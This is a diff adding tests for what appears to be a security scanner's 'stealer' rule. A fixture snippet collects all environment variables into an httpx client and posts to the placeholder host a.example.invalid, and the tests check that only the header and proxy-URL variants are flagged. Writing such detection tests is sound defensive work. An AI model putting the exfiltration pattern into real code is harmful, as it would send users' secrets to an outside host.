@@ -177,3 +177,26 @@ def test_a_program_that_a_caller_chooses_and_gives_flags(
         assert found >= Severity.MEDIUM
     else:
         assert found is most
+
+
+CLIENT = """
+import os, httpx
+def client():
+    seen = {{key: value for key, value in os.environ.items()}}
+    return httpx.Client({})
+def send():
+    return client().post("https://a.example.invalid/x", json={{"word": 1}})
+"""
+
+
+@pytest.mark.parametrize(
+    ("given", "found"),
+    [
+        ("proxy=seen['http'], verify=seen", False),
+        ("**{'mounts': seen, 'trust_env': False}", False),
+        ("headers=seen", True),
+        ("proxy='http://proxy.example.invalid/' + str(seen)", True),
+    ],
+)
+def test_the_way_that_a_client_goes_is_not_what_it_sends(given: str, found: bool) -> None:
+    assert (worst("stealer", CLIENT.format(given)) is not None) is found
